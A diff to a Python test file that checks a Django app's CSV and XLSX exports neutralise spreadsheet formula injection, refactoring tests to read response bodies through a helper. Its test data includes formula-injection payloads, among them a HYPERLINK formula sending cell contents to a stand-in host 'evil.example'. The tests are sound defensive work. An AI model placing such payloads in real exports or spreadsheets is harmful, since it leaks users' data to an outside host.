@@ -18,6 +18,7 @@ from openpyxl import load_workbook
 from serai.core import downloads
 from serai.core.cells import FORMULA_STARTS, safe_cell
 from serai.core.i18n import TranslatedText
+from serai.core.testing import body as body_of
 from serai.projects.tests.conftest import energy, make_project, roles, walk  # noqa: F401 (fixtures)
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
@@ -65,14 +66,14 @@ def test_safe_cell_quotes_formula_text_and_keeps_numbers():
 @pytest.mark.parametrize("fmt", downloads.FORMATS)
 def test_table_response_neutralises_every_text_cell_in_both_formats(fmt):
     rows = [[p, -2, 1.5, Decimal("-7.5")] for p in PAYLOADS]
-    response = downloads.table_response(fmt, "x", ["=title", "n", "f", "d"], rows, note="=NOTE()")
+    content = body_of(downloads.table_response(fmt, "x", ["=title", "n", "f", "d"], rows, note="=NOTE()"))
     if fmt == "csv":
-        assert_csv_inert(response.content, *PAYLOADS, "=title")
-        body = _csv_cells(response.content)
-        assert body[0] == ["# =NOTE()"] and body[2][1:] == ["-2", "1.5", "-7.5"]
+        assert_csv_inert(content, *PAYLOADS, "=title")
+        cells = _csv_cells(content)
+        assert cells[0] == ["# =NOTE()"] and cells[2][1:] == ["-2", "1.5", "-7.5"]
         return
-    assert_xlsx_inert(response.content, *PAYLOADS, "=title", "=NOTE()")
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert_xlsx_inert(content, *PAYLOADS, "=title", "=NOTE()")
+    sheet = load_workbook(io.BytesIO(content)).active
     numbers = [c for c in next(sheet.iter_rows(min_row=3, max_row=3))][1:]
     assert [(c.value, c.data_type) for c in numbers] == [(-2, "n"), (1.5, "n"), (-7.5, "n")]
 
@@ -87,7 +88,7 @@ def test_project_export(client, roles, make_project, fmt):  # noqa: F811
     client.force_login(roles["secretariat"])
     response = client.get(f"/en/projects/export.{fmt}")
     assert response.status_code == 200
-    (assert_csv_inert if fmt == "csv" else assert_xlsx_inert)(response.content, *titles)
+    (assert_csv_inert if fmt == "csv" else assert_xlsx_inert)(body_of(response), *titles)
 
 
 @pytest.mark.django_db
@@ -103,7 +104,7 @@ def test_action_tracker_export(client, roles, reference):  # noqa: F811
     client.force_login(roles["secretariat"])
     response = client.get("/en/actions/?format=xlsx")
     assert response.status_code == 200
-    assert_xlsx_inert(response.content, *titles)
+    assert_xlsx_inert(body_of(response), *titles)
 
 
 @pytest.mark.django_db
@@ -114,7 +115,7 @@ def test_dashboard_csv(client, roles, make_project, energy):  # noqa: F811
     client.force_login(roles["secretariat"])
     response = client.get("/en/dashboard/field.csv")
     assert response.status_code == 200
-    assert_csv_inert(response.content, '=HYPERLINK("http://evil.example")')
+    assert_csv_inert(body_of(response), '=HYPERLINK("http://evil.example")')
 
 
 @pytest.fixture
@@ -135,12 +136,13 @@ def formula_store(settings, tmp_path, reference):
 def test_trade_opportunities_export(client, formula_store, fmt):
     response = client.get(f"/en/trade/UZB/opportunities.{fmt}?year=2020&direction=in")
     assert response.status_code == 200
+    content = body_of(response)
     if fmt == "csv":  # the note is a comment line ("# …") in a CSV
-        assert_csv_inert(response.content)
+        assert_csv_inert(content)
     else:
-        assert_xlsx_inert(response.content)
+        assert_xlsx_inert(content)
         assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK")
-                   for c in _xlsx_cells(response.content))
+                   for c in _xlsx_cells(content))
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
